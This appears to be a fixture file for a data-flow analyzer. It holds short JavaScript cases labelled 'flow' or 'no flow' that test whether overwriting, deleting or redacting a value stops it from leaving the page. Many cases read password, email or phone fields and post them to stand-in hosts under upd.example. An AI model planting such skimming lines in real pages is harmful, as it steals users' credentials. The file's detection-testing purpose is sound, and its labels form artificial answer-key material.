//# variable-overwritten
// no flow
// why: the value is replaced before it is sent
let v = document.querySelector('input[type=password]').value;
v = 'redacted';
fetch('https://ow.upd.example/a', { method: 'POST', body: v });

//# variable-overwritten-after
// flow: password > owa.upd.example via fetch
// why: the request is made before the variable is cleared
let secret = document.querySelector('input[type=password]').value;
fetch('https://owa.upd.example/a', { method: 'POST', body: secret });
secret = null;

//# overwritten-in-one-branch
// flow: email > br.upd.example via fetch
let m = document.querySelector('input[type=email]').value;
if (window.__anonymous) m = 'anon';
fetch('https://br.upd.example/b?m=' + m);

//# overwritten-in-both-branches
// no flow
let w = document.querySelector('input[type=email]').value;
if (window.__anonymous) w = 'anon';
else w = 'known';
fetch('https://both.upd.example/b?m=' + w);

//# property-cleared
// no flow
const st = { pw: document.querySelector('input[type=password]').value, step: 1 };
st.pw = '';
fetch('https://clr.upd.example/c', { method: 'POST', body: JSON.stringify(st) });

//# property-deleted
// flow: email > del.upd.example via fetch
// why: near miss: the password is deleted from the object, the address is not
const f = { email: document.querySelector('input[type=email]').value, pw: document.querySelector('input[type=password]').value };
delete f.pw;
fetch('https://del.upd.example/d', { method: 'POST', body: JSON.stringify(f) });

//# alias-deleted
// no flow
// why: both names stand for one object
const a = { pw: document.querySelector('input[type=password]').value };
const b = a;
delete b.pw;
fetch('https://alias.upd.example/d', { method: 'POST', body: JSON.stringify(a) });

//# copy-deleted
// flow: password > copy.upd.example via fetch
// why: the key is deleted from a copy, the original is sent
const orig = { pw: document.querySelector('input[type=password]').value };
const dup = { ...orig };
delete dup.pw;
fetch('https://copy.upd.example/d', { method: 'POST', body: JSON.stringify(orig) });

//# array-element-replaced
// no flow
const row = ['id', document.querySelector('input[name=username]').value];
row[1] = '-';
navigator.sendBeacon('https://row.upd.example/r', row.join());

//# array-popped
// no flow
// why: pop() takes the last element, the typed one
const list = ['start'];
list.push(document.querySelector('input[type=search]').value);
list.pop();
navigator.sendBeacon('https://pop.upd.example/r', list.join());

//# array-shifted
// flow: search > shift.upd.example via beacon
// why: shift() takes the first element, the constant
const items = ['start'];
items.push(document.querySelector('input[type=search]').value);
items.shift();
navigator.sendBeacon('https://shift.upd.example/r', items.join());

//# field-cleared-then-read
// no flow
// why: the field is emptied before it is read
const i = document.querySelector('input[type=password]');
i.value = '';
fetch('https://empty.upd.example/e?v=' + i.value);

//# formdata-deleted
// flow: email > fd.upd.example via fetch
// why: near miss: the password is taken out of the form data
const fd = new FormData();
fd.set('email', document.querySelector('input[type=email]').value);
fd.set('password', document.querySelector('input[type=password]').value);
fd.delete('password');
fetch('https://fd.upd.example/f', { method: 'POST', body: fd });

//# formdata-set-again
// no flow
// why: set() replaces what was there
const g = new FormData();
g.append('tel', document.querySelector('input[type=tel]').value);
g.set('tel', 'n/a');
fetch('https://fdset.upd.example/f', { method: 'POST', body: g });

//# formdata-appended-again
// flow: phone > fdapp.upd.example via fetch
// why: append() adds a second entry and keeps the first
const k = new FormData();
k.append('tel', document.querySelector('input[type=tel]').value);
k.append('tel', 'n/a');
fetch('https://fdapp.upd.example/f', { method: 'POST', body: k });

//# loop-last-value
// no flow
// why: the last round of the loop leaves a constant
let last;
for (const x of [document.querySelector('input[type=tel]').value, 'end']) last = x;
fetch('https://last.upd.example/l?x=' + last);

//# redaction-whole-text
// no flow
// why: every character is replaced by a star; only the length remains
const stars = document.querySelector('input[type=password]').value.replace(/[\s\S]/g, '*');
fetch('https://stars.upd.example/s', { method: 'POST', body: stars });

//# redaction-by-key
// flow: username > key.upd.example via fetch
// why: near miss: the replacer turns the password into a constant
const all = { username: document.querySelector('input[name=username]').value, password: document.querySelector('input[type=password]').value };
fetch('https://key.upd.example/k', { method: 'POST', body: JSON.stringify(all, (n, x) => (n === 'password' ? '[filtered]' : x)) });
